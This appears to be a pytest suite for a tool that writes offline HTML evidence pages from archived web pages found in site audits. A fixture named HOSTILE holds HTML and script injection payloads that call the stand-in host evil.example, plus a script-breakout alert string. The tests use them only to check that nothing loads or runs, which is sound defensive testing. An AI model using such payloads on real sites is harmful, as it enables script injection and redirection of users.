"""Evidence pages: one file a target, opened offline, running nothing of the archived page; sheets link to what is written."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from rounds import TARGET, Seen, found
from sample import sample

from checks.dossier import ROOM, dossier
from checks.finding import Finding, Outcome
from checks.rulings import Ruling, Verdict
from crawler.archive import Page
from reports.evidence import evidence_path, write_evidence
from reports.rows import lay_out

HOME = TARGET.url
HOSTILE = (
    """<meta http-equiv="refresh" content="0;url=http://evil.example/moved"><base href="http://evil.example/">
<style>mark, p { display: none !important } body::after { content: ""; position: fixed; inset: 0; z-index: 9 }
@import "http://evil.example/a.css";</style>
<script>fetch("http://evil.example/run"); parent.document.title = "改了"; top.location = "http://evil.example/top"</script>
</iframe></script></article><script>document.title = "改了"</script>
<img src="http://evil.example/p.png" onerror="parent.document.title='改了'"><iframe src="http://evil.example/f"></iframe>
<a href="javascript:parent.document.title='改了'">点我</a><form action="http://evil.example/go"><button>送出</button></form>
<div style="height:9000px"></div>"""
    + "<p>填充</p>" * 300
    + """<div style="display:none"><p hidden>藏着的错字在这里</p></div>"""
)


def written(folder: Path, *findings: Finding, room: float = ROOM) -> str:
    path = folder / "证据.html"
    write_evidence(dossier(folder, TARGET, findings, room), room, path, {})
    return path.read_text(encoding="utf-8")


def article(text: str, key: str) -> str:
    """The words of one finding's article."""
    whole = text.partition(f'<article id="{key}">')[2].partition("</article>")[0]
    return " ".join(re.sub("<[^>]*>", " ", whole).split())


def test_a_saying_links_to_its_place_only_where_the_page_of_its_target_is_written() -> None:
    result = sample()
    assert {issue.saying.evidence for issue in lay_out(result).issues} == {""}
    chosen = lay_out(result).issues[0].saying
    rows = lay_out(result, {chosen.target.id})
    linked = {(i.saying.target.id, i.saying.key): i.saying.evidence for i in rows.issues if i.saying.evidence}
    assert linked[chosen.target.id, chosen.key] == evidence_path(chosen.target.id, chosen.key)
    assert {target for target, _ in linked} == {chosen.target.id}


def test_it_tells_what_was_asked_and_what_was_seen(tmp_path: Path) -> None:
    page = Seen(tmp_path).visit(HOME, "<p>再接再励</p>", [("Server", "Tengine"), ("X-Who", "<b>13812345678")])
    one = found(page, "再接再励", place="正文", item="再接再励")
    told = article(written(tmp_path, one), one.key)
    for words in ("用词表述错误（wrong_word）", "国办秘函〔2019〕19号", "三审三校", "位置 正文", "项目 再接再励"):
        assert words in told
    assert "2026-11-20 12:00:00（北京时间），2026-11-20 04:00:00（UTC）" in told
    assert f"192.0.2.1（IPv4） 存档 archive/{TARGET.id}/pages.warc.gz，偏移 {page.offset}，长度 {page.length}" in told
    assert f"sha256 {page.sha256} ，{page.size} 字节， 与存档一致" in told
    assert "Server Tengine X-Who &lt;b&gt;138****5678" in told
    assert "摘录的原文已在下面标出" in told


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ({}, "不符合"),
        ({"certain": False}, "待核实"),
        ({"outcome": Outcome.UNSURE}, "待核实"),
        ({"ruling": Verdict.DISMISSED}, "不成立"),
        ({"ruling": Verdict.CONFIRMED, "certain": False}, "属实"),
    ],
)
def test_a_ruling_goes_before_the_machines_word(tmp_path: Path, more: dict[str, Any], said: str) -> None:
    page = Seen(tmp_path).visit(HOME, "<p>再接再励</p>")
    plain = found(page, "再接再励")
    if verdict := more.get("ruling"):
        more = more | {"ruling": Ruling(plain.key, TARGET.id, verdict, "王<工", "2026-11-21", "见原件", "")}
    told = article(written(tmp_path, replace(plain, **more)), plain.key)
    assert told.startswith(said)
    assert ("核实 " + said in told and "（王&lt;工，2026-11-21）：见原件" in told) == bool(verdict)


def failed(seen: Seen) -> Page:
    return seen.visit(HOME, status=None, error="timeout", detail="no answer in 30 s", ip="", family=0)


def test_where_nothing_can_be_shown_it_says_why(tmp_path: Path) -> None:
    seen = Seen(tmp_path)
    silent = found(failed(seen), rule="home_unreachable")
    failed(seen)
    empty = found(seen.visit(f"{HOME}empty"), rule="channel_blank")
    lacking = found(seen.visit(f"{HOME}a", "<p>文</p>"), rule="content_missing")
    nothing, other = found(None, rule="post_stale"), replace(lacking, key="0" * 16, sha256="f" * 64)
    text = written(tmp_path, silent, empty, lacking, nothing, other)
    assert "没有得到应答，没有正文可附" in article(text, silent.key)
    assert article(text, silent.key).count("未应答：超时未应答（no answer in 30 s）") == 3
    assert "应答的正文是空的" in article(text, empty.key)
    assert "没有可标出的位置" in article(text, lacking.key)
    assert "没有对应的采集记录" in article(text, nothing.key)
    assert "存档中的内容缺失、损坏，或与记录的摘要不一致" in article(text, other.key)
    assert 'data-page="' not in text.partition(f'id="{other.key}"')[2].partition("</article>")[0]


def test_what_has_no_room_is_told_in_its_place_and_at_the_top(tmp_path: Path) -> None:
    page = Seen(tmp_path).visit(HOME, "<p>再接再励</p>")
    text = written(tmp_path, found(page, "再接再励"), room=0.0001)
    assert "另有 1 个页面未附" in text and "此页未附" in text
    assert "data-page" not in text


def test_the_same_archive_gives_the_same_bytes_and_no_bytes_of_a_page_stand_open(tmp_path: Path) -> None:
    page = Seen(tmp_path).visit(HOME, HOSTILE)
    one = found(page, "藏着的错字在这里", message="</script><script>alert(1)</script>")
    text = written(tmp_path, one)
    assert text == written(tmp_path, one)
    assert "evil.example" not in text and "<script>alert" not in text
    assert "default-src 'none'" in text


def marked(tab: Any, words: str) -> None:
    """Wait until the frame shows the mark; the page's policy lets no test script be evaluated from text within it."""
    look = """(words) => new Promise((done) => {
        const look = () => document.querySelector("article.shown iframe")?.contentDocument.querySelector("mark.now")
            ?.textContent === words ? done() : setTimeout(look, 20);
        look();
    })"""
    tab.evaluate(look, words)


def watched(browser: Any) -> tuple[Any, list[str], list[str]]:
    """A tab, what it asks the network for, and what goes wrong in it. What it asks for gets nothing."""
    tab = browser.new_page(viewport={"width": 1280, "height": 900})
    asked: list[str] = []
    said: list[str] = []

    def answer(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    tab.route(lambda url: not url.startswith(("file:", "data:")), answer)
    tab.on("console", lambda message: said.append(message.text))
    tab.on("pageerror", lambda error: said.append(str(error)))
    return tab, asked, said


@pytest.mark.chromium
def test_opening_it_asks_for_nothing_runs_nothing_and_shows_the_mark(tmp_path: Path, browser: Any) -> None:
    seen = Seen(tmp_path)
    bad = found(seen.visit(HOME, HOSTILE), "藏着的错字在这里")
    other = found(seen.visit(f"{HOME}b", "<p>另一页</p>"), "另一页")
    written(tmp_path, other, bad)
    tab, asked, said = watched(browser)
    tab.goto(f"{(tmp_path / '证据.html').as_uri()}#{bad.key}")
    marked(tab, "藏着的错字在这里")
    assert said == []  # from here on the browser tells of the test's own scripts, which the frame does not let run
    frame = tab.frame_locator("article.shown iframe")
    assert frame.locator("mark.now").inner_text() == "藏着的错字在这里"
    assert tab.locator("article.shown").get_attribute("id") == bad.key
    within, mark = (tab.locator("article.shown iframe").bounding_box(), frame.locator("mark.now").bounding_box())
    assert within["y"] <= mark["y"] <= within["y"] + within["height"] - mark["height"], "the mark is scrolled into view"
    frame.locator("a", has_text="点我").click()
    assert tab.locator("iframe").count() == 1
    tab.locator("nav a").first.click()
    marked(tab, "另一页")
    assert asked == []
    assert tab.title().endswith("证据") and "改了" not in tab.title()


@pytest.mark.chromium
def test_even_a_page_that_was_not_made_harmless_could_do_nothing(tmp_path: Path, browser: Any) -> None:
    """The frame and the viewer's own policy hold by themselves."""
    tab, asked, _ = watched(browser)
    page = Seen(tmp_path).visit(HOME, "<p>再接再励</p>")
    one = found(page, "再接再励")
    written(tmp_path, one)
    tab.goto((tmp_path / "证据.html").as_uri())
    marked(tab, "再接再励")
    tab.evaluate(
        """(page) => new Promise((done) => {
            const frame = document.querySelector("iframe");
            frame.onload = () => setTimeout(done, 300);
            frame.srcdoc = page;
        })""",
        HOSTILE.partition("<base")[2],
    )
    assert asked == []
    assert "改了" not in tab.title()
